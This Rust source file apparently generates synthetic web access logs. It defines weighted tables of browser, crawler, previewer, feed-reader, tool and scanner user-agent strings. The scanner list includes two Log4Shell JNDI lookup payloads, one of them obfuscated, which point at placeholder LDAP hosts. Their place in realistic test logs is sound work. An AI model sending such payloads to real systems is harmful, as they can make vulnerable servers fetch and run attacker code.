//! Agent strings: browsers by their share, and the programs that are not browsers.

use crate::random::{Random, Weighted};

/// The number of an agent string.
pub(crate) type Agent = u16;

/// No agent at all, `-` on the line.
pub(crate) const NO_AGENT: Agent = 0;

/// Shapes of browser strings as current releases send them, their share of the visitors, and the versions in
/// use, newest first, each half as frequent as the one before. `{}` stands for the version.
#[rustfmt::skip]
static BROWSERS: &[(u32, &str, &[&str])] = &[
    (250, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Mobile Safari/537.36", &["141", "140", "139", "137", "131", "124"]),
    (170, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36", &["141", "140", "139", "138", "134", "109"]),
    (62, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36", &["141", "140", "139"]),
    (18, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36", &["141", "140", "138"]),
    (8, "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36", &["141", "139"]),
    (110, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{} Mobile/15E148 Safari/604.1", &["18.6", "26.0"]),
    (60, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{} Mobile/15E148 Safari/604.1", &["17.6"]),
    (18, "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_10 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{} Mobile/15E148 Safari/604.1", &["16.6.1"]),
    (24, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/{}.0.7390.41 Mobile/15E148 Safari/604.1", &["141", "140"]),
    (16, "Mozilla/5.0 (iPad; CPU OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{} Mobile/15E148 Safari/604.1", &["17.6"]),
    (62, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{} Safari/605.1.15", &["18.6", "26.0", "17.6"]),
    (34, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}) Gecko/20100101 Firefox/{}", &["144.0", "143.0", "140.0", "128.0"]),
    (14, "Mozilla/5.0 (X11; Linux x86_64; rv:{v}) Gecko/20100101 Firefox/{}", &["144.0", "140.0"]),
    (4, "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}) Gecko/20100101 Firefox/{}", &["144.0"]),
    (9, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}) Gecko/20100101 Firefox/{}", &["144.0", "143.0"]),
    (8, "Mozilla/5.0 (Android 14; Mobile; rv:{v}) Gecko/{v} Firefox/{}", &["144.0", "143.0"]),
    (56, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36 Edg/{v}.0.0.0", &["141", "140", "139"]),
    (5, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36 Edg/{v}.0.0.0", &["141", "140"]),
    (30, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{}.0 Chrome/136.0.0.0 Mobile Safari/537.36", &["29", "28"]),
    (8, "Mozilla/5.0 (Linux; Android 13; SM-X200) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36", &["140", "138"]),
    (14, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 OPR/{}.0.0.0", &["124", "123"]),
    (8, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Mobile Safari/537.36 OPR/{}.0.0.0", &["92", "91"]),
    (18, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram {}.0.0.29.97 (iPhone15,2; iOS 18_6; en_US; en; scale=3.00; 1179x2556)", &["401", "399"]),
    (3, "Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) Version/7.0 TV Safari/537.36 SamsungBrowser/{}", &["4.0"]),
    (2, "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36 WebAppManager", &["108"]),
    (2, "Mozilla/5.0 (PlayStation; PlayStation 5/{}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15", &["9.60"]),
    (1, "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/{} NintendoBrowser/5.1.0.22474", &["6.0.3.22.0"]),
    (2, "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:{}) like Gecko", &["11.0"]),
];

/// What marks the browsers of phones, which a campaign on a social network reaches.
const MOBILE: &str = "Mobile";

/// A crawler: its share, its agent string and the /24 blocks it comes from.
pub(crate) type Crawler = (u32, &'static str, &'static [[u8; 3]]);

/// Crawlers of search engines, of model makers and of marketing firms.
#[rustfmt::skip]
pub(crate) static CRAWLERS: &[Crawler] = &[
    (130, "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.54 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", &[[66, 249, 66], [66, 249, 68], [66, 249, 72], [66, 249, 79]]),
    (60, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", &[[66, 249, 66], [66, 249, 68]]),
    (110, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", &[[40, 77, 167], [157, 55, 39], [207, 46, 13]]),
    (110, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", &[[20, 171, 206], [20, 171, 207]]),
    (110, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", &[[216, 73, 216], [216, 73, 217]]),
    (90, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", &[[54, 36, 148], [54, 36, 149], [51, 222, 253]]),
    (80, "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", &[[185, 191, 171], [85, 208, 96]]),
    (50, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", &[[5, 255, 231], [87, 250, 224], [213, 180, 203]]),
    (50, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", &[[17, 241, 219], [17, 241, 75]]),
    (60, "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)", &[[47, 128, 20], [47, 128, 40], [110, 249, 201]]),
    (45, "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", &[[114, 119, 130], [114, 119, 150]]),
    (40, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36", &[[52, 70, 240], [3, 224, 220]]),
    (30, "CCBot/2.0 (https://commoncrawl.org/faq/)", &[[18, 97, 9]]),
    (30, "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", &[[20, 191, 45]]),
    (25, "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", &[[216, 244, 66]]),
];

/// Programs that fetch one link and its picture when somebody shares it.
pub(crate) static PREVIEWERS: &[Crawler] = &[
    (
        60,
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        &[[173, 252, 107], [69, 171, 230]],
    ),
    (20, "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", &[[192, 0, 2]]),
    (20, "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", &[[192, 0, 2]]),
    (20, "WhatsApp/2.23.20.0", &[[192, 0, 2]]),
    (20, "TelegramBot (like TwitterBot)", &[[192, 0, 2]]),
];

/// Feed readers.
pub(crate) static FEED_READERS: &[Crawler] = &[
    (
        50,
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 42 subscribers; like FeedFetcher-Google)",
        &[[8, 29, 198]],
    ),
    (30, "FreshRSS/1.27.1 (Linux; https://freshrss.org)", &[[192, 0, 2], [198, 51, 100]]),
    (30, "NetNewsWire (RSS Reader; https://netnewswire.com/)", &[[192, 0, 2], [203, 0, 113]]),
    (25, "Mozilla/5.0 (compatible; Miniflux/2.2.13; +https://miniflux.app)", &[[198, 51, 100]]),
    (20, "Tiny Tiny RSS/25.09 (https://tt-rss.org/)", &[[203, 0, 113]]),
    (15, "Inoreader/1.0 (+http://www.inoreader.com/feed-fetcher; 17 subscribers; )", &[[192, 0, 2]]),
];

/// Programs that people write scripts with.
pub(crate) static TOOLS: &[Crawler] = &[
    (60, "curl/8.5.0", &[[192, 0, 2]]),
    (20, "curl/7.88.1", &[[203, 0, 113]]),
    (60, "python-requests/2.32.3", &[[192, 0, 2], [198, 51, 100]]),
    (50, "Go-http-client/1.1", &[[198, 51, 100]]),
    (30, "Go-http-client/2.0", &[[203, 0, 113]]),
    (25, "okhttp/4.12.0", &[[198, 51, 100]]),
    (20, "axios/1.7.9", &[[203, 0, 113]]),
    (15, "Wget/1.21.4", &[[192, 0, 2]]),
    (10, "PostmanRuntime/7.43.0", &[[198, 51, 100]]),
];

/// What scanners for weak spots call themselves. The look-up strings are the attack itself: whoever logs
/// them with an old log4j fetches what they name.
pub(crate) static SCANNERS: &[&str] = &[
    "-",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "python-requests/2.27.1",
    "Go-http-client/1.1",
    "${jndi:ldap://203.0.113.66:1389/a}",
    "${${lower:j}ndi:${lower:l}dap://198.51.100.7/x}",
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
];

/// Asks once a minute whether the site is up.
pub(crate) static MONITOR: Crawler =
    (1, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", &[[216, 144, 248]]);

/// A family of programs in the table of agents.
pub(crate) struct Family {
    first: Agent,
    weights: Weighted,
}

impl Family {
    /// One of them: its place in the family's list, and its agent.
    pub(crate) fn choose(&self, random: &mut Random) -> (usize, Agent) {
        let index = self.weights.choose(random);
        (index, self.first + index as Agent)
    }
}

/// Every agent string that can occur.
pub(crate) struct Agents {
    text: Vec<String>,
    pub(crate) browsers: Family,
    pub(crate) phones: Family,
    pub(crate) crawlers: Family,
    pub(crate) previewers: Family,
    pub(crate) feed_readers: Family,
    pub(crate) tools: Family,
    pub(crate) scanners: Family,
    pub(crate) monitor: Agent,
}

impl Agents {
    pub(crate) fn new() -> Self {
        let mut text = vec!["-".to_owned()];
        let mut add = |entries: Vec<(u32, String)>| {
            let first = text.len() as Agent;
            let weights = Weighted::new(entries.iter().map(|(weight, _)| *weight));
            text.extend(entries.into_iter().map(|(_, agent)| agent));
            Family { first, weights }
        };
        let browsers = browsers();
        let phones = browsers.iter().filter(|(_, agent)| agent.contains(MOBILE)).cloned().collect();
        let listed =
            |list: &[Crawler]| list.iter().map(|(weight, agent, _)| (*weight, agent.to_string())).collect();
        let scanners = SCANNERS.iter().map(|agent| (1, agent.to_string())).collect();
        let (browsers, phones) = (add(browsers), add(phones));
        Agents {
            browsers,
            phones,
            crawlers: add(listed(CRAWLERS)),
            previewers: add(listed(PREVIEWERS)),
            feed_readers: add(listed(FEED_READERS)),
            tools: add(listed(TOOLS)),
            scanners: add(scanners),
            monitor: add(listed(&[MONITOR])).first,
            text,
        }
    }

    /// The string of an agent.
    pub(crate) fn text(&self, agent: Agent) -> &[u8] {
        self.text[usize::from(agent)].as_bytes()
    }
}

/// Every browser in every version in use.
fn browsers() -> Vec<(u32, String)> {
    let mut all = Vec::new();
    for (share, shape, versions) in BROWSERS {
        for (age, version) in versions.iter().enumerate() {
            let last = age + 1 == versions.len();
            let weight = (share * 64) >> (if last { age } else { age + 1 });
            all.push((weight, shape.replace("{}", version).replace("{v}", version)));
        }
    }
    all
}
